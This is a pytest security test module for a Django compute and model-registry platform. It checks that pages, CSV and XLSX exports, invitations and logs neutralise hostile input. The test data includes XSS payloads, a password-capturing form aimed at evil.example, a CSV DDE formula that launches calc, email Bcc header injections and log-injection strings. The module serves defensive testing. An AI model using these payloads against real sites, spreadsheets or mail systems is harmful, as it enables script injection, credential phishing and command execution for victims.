"""Texts that want to be a script, a formula, a header or a line of a log in somebody's hands."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from html.parser import HTMLParser
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from compute.models import Call, Cluster, ExternalGrant, Job, JobTemplate, Pool
from projects.models import Group, Initiative, Partner, Project
from registry.models import Dataset, Model
from tests import make, routes, world
from tests.attacks.cases import each
from tests.conftest import Caller, Log, new_client
from tests.world import World

LIVE = "<img src=x onerror=alert(1)>\"'`{{7*7}}{%x%}${7*7}&lt;"
CARDS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1)) [y](&#106;avascript&colon;alert(1)) <javascript:alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x](data:text/html,<script>alert(1)</script>) ![x](data:image/svg+xml,<svg/onload=a>)",
    "</div></div></main><script>alert(1)</script>",
    "<a href=x hx-get=/settings/ hx-trigger=load>x</a> <p data-do=theme id=main class=note>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "www.evil.example http://evil.example //evil.example",
    "{% load static %}{{ request.user.password }}{{ settings.SECRET_KEY }}",
]
FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1",
            "＝1+1", " =1+1", "=HYPERLINK(\"https://evil.example\",\"x\")"]  # fmt: skip


class Page(HTMLParser):
    """What a browser makes of a page: its tags with the names of their attributes, its links."""

    def __init__(self, answer: Any) -> None:
        super().__init__(convert_charrefs=True)
        self.shapes: Counter[tuple[str, ...]] = Counter()
        self.links: list[str] = []
        self.scripts: list[str] = []
        self._is_script = False
        self.feed(answer.content.decode())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shapes[tag, *sorted(name for name, _value in attrs)] += 1
        self.links += [value or "" for name, value in attrs if name in {"href", "src", "action"}]
        self._is_script = tag == "script" and ("type", "application/json") not in attrs

    def handle_data(self, data: str) -> None:
        if self._is_script and data.strip():
            self.scripts.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._is_script = False

    def assert_harmless(self) -> None:
        names = {name for shape in self.shapes for name in shape[1:]}
        assert not {name for name in names if name.startswith("on")}
        assert "srcdoc" not in names
        assert not {shape[0] for shape in self.shapes} & {"base", "iframe", "object", "embed"}
        assert self.scripts == []
        for link in self.links:
            assert not link.lower().lstrip().startswith(("javascript:", "data:text", "vbscript:"))
            assert "evil.example" not in link or link.startswith("https://")


@each("card", CARDS)
def test_a_card_shows_what_it_says_and_does_nothing(
    lead: Caller, project: Project, card: str
) -> None:
    model = make.make_model(project)
    plain = Page(_with_card(lead, model, "some words"))
    page = Page(_with_card(lead, model, card))
    page.assert_harmless()
    grown = page.shapes - plain.shapes
    assert {shape[0] for shape in grown} <= {"a", "p", "em", "strong", "code", "ul", "li"}
    assert {name for shape in grown for name in shape[1:]} <= {"href", "rel"}


def _with_card(caller: Caller, model: Model, card: str) -> Any:
    assert caller.put(f"models/{model.pk}/card/", {"card": card}).status_code == 200
    return caller.as_browser.get(reverse("model", args=[model.pk]))


@pytest.fixture
def built(db: None) -> World:
    return World()


def test_no_name_and_no_text_acts_on_any_page(built: World) -> None:
    """Everything that the world's group wrote is the attack, and everybody looks everywhere."""
    _rename(LIVE)
    seen = 0
    for who in ("lead", "coordinator"):
        browser = new_client()
        browser.force_login(built.people[who])
        for name, methods in routes.PAGES.items():
            if "get" not in methods:
                continue
            answer = browser.get(reverse(name, args=built.page_key(name)))
            if answer.status_code == 200 and "html" in answer["Content-Type"]:
                assert b"<img src=x" not in answer.content, (who, name)
                seen += b"&lt;img src=x" in answer.content
                Page(answer).assert_harmless()
    assert seen > 30


def _rename(text: str) -> None:
    """Put a text where people write names and notes of what lists and exports show."""
    for table, columns in (
        {
            Project: ("title", "abstract"), Model: ("name", "description", "licence"),
            Group: ("name", "description"), Partner: ("name", "city"), Cluster: ("name",),
            Job: ("name", "reason"), JobTemplate: ("name",), Call: ("board", "title"),
            Initiative: ("name", "text"), Dataset: ("name", "licence", "description"),
            Pool: ("name", "gpu_type"), ExternalGrant: ("board", "reference", "amount"),
        }.items()
    ):  # fmt: skip
        for row in table._default_manager.all():
            values = dict.fromkeys(columns, text)
            sizes: dict[str, Any] = {
                name: getattr(table._meta.get_field(name), "max_length", None) for name in columns
            }
            if table in {Partner, Initiative, Dataset, Model, ExternalGrant, JobTemplate}:
                values[columns[-1] if table is ExternalGrant else columns[0]] += f" {row.pk}"
            cut = {name: value[: sizes[name]] for name, value in values.items()}
            table._default_manager.filter(pk=row.pk).update(**cut)


EXPORTS = [
    "/models.csv", "/reports/allocations.csv",
    *(f"/{page}/?format=csv" for page in (
        "requests", "allocations", "jobs", "templates", "clusters", "capacity", "calls", "groups",
        "projects", "partners", "cases", "similar", "audit", "roadmap", "initiatives")),
]  # fmt: skip


@each("formula", FORMULAS)
def test_no_cell_of_any_export_is_a_formula(built: World, formula: str) -> None:
    _rename(formula)
    browser = new_client()
    browser.force_login(built.people["coordinator"])
    found = 0
    for path in EXPORTS:
        answer = browser.get(path)
        if not answer["Content-Type"].startswith("text/csv"):
            continue
        for row in csv.reader(io.StringIO(answer.getvalue().decode(), newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")), path
                assert not cell.lstrip().startswith("="), path
                found += cell.startswith("'")
    assert found > 5
    book = load_workbook(io.BytesIO(browser.get("/reports/report.xlsx").content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]


@each(
    "email",
    ["a@example.org\nBcc: evil@evil.example", "a@example.org\r\n\r\nbody", "a@example.org,b@x.org",
     "a@example.org%0aBcc:x@x.org", "<a@example.org>", "a@example.org\0", '"a\n"@example.org',
     "a b@example.org", "a@[127.0.0.1]\n", "a@example.org;b@x.org", "x" * 300 + "@example.org"],
)  # fmt: skip
def test_an_address_that_holds_more_than_one_person_is_none(
    lead: Caller, group: Group, email: str
) -> None:
    body = {"group": str(group.pk), "email": email, "role": "member"}
    answer = lead.post("invitations/", body)
    assert answer.status_code == 400 or answer.json()["email"] == email.strip()
    form = {"email": email, "role": "member"}
    page = lead.as_browser.post(reverse("invite", args=[group.pk]), form)
    assert page.status_code in {200, 400}
    assert not group.invitations.filter(email__contains="evil").exists()


def test_a_call_writes_one_line_into_the_log_whatever_its_path(lead: Caller, log: Log) -> None:
    evil = '%0a{"event": "fine", "level": "info"}%0d%0a%1b[2J%e2%80%a8'
    lead.get(f"/api/v1/models/{evil}/", **{"User-Agent": "a\tb", "X-Request-ID": 'x" y'})
    lines = log.text.splitlines()
    assert len(lines) == len(log.text.split("\n")) - 1
    assert all(json.loads(line)["event"] != "fine" for line in lines)
    assert "\x1b" not in log.text


@each("chosen", ["x" * 5000, "a b", "é", "<script>", "", "\t", "a;b=c"])
def test_a_caller_does_not_choose_what_stands_in_the_log(
    lead: Caller, log: Log, chosen: str
) -> None:
    answer = lead.get("projects/", **{"X-Request-ID": chosen, "X-Correlation-ID": chosen})
    assert answer.status_code == 200
    assert len(answer["X-Request-ID"]) <= 100
    assert "<script>" not in answer["X-Request-ID"]
    assert "xxxxxxxxxx" * 20 not in log.text


def test_titles_in_any_script_are_taken(lead: Caller, group: Group) -> None:
    for number, title in enumerate(
        ("Sprachmodell für Ärzte", "مشروع", "プロジェクト", "Ελληνικά")
    ):
        body = {"lead_group": str(group.pk), "slug": f"new{number}", "title": title}
        assert lead.post("projects/", body).status_code == 201


@each(
    "url",
    ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x",
     "java\tscript:x",
     "https:alert(1)", "//evil.example", "\x01javascript:alert(1)", "file:///etc/passwd"],
)  # fmt: skip
def test_no_link_of_a_form_is_one_that_acts(
    lead: Caller, coordinator: Caller, group: Group, url: str
) -> None:
    initiative = {"slug": "x", "name": "x", "page": url}
    assert coordinator.post("initiatives/", initiative).status_code == 400
    data = {"name": "d", "group": str(group.pk), "homepage": url}
    assert lead.post("datasets/", data).status_code == 400
    model = make.make_model(make.make_project(group))
    version = {"model": str(model.pk), "source": "s3://x", "run_link": url}
    assert lead.post("versions/", version).status_code in {201, 400}
    page = Page(lead.as_browser.get(reverse("model", args=[model.pk])))
    page.assert_harmless()


@pytest.mark.parametrize(
    "body",
    ['{"name": "a", "name": "b"}', '{"scope": "read", "name": "x", "scope": "write"}'],
)
def test_of_two_equal_keys_it_is_clear_which_counts(lead: Caller, body: str) -> None:
    """The last, as in every JSON reader of browsers and Python; or none is taken."""
    answer = new_client().post(
        "/api/v1/tokens/", body, "application/json",
        headers={"Authorization": f"Bearer {lead.token}"},
    )  # fmt: skip
    assert answer.status_code in {201, 400}
    if answer.status_code == 201:
        pairs = json.loads(body)
        assert {name: answer.json()[name] for name in pairs} == pairs


def test_the_canary_of_the_world_is_no_part_of_these_attacks() -> None:
    assert "<" not in world.CANARY
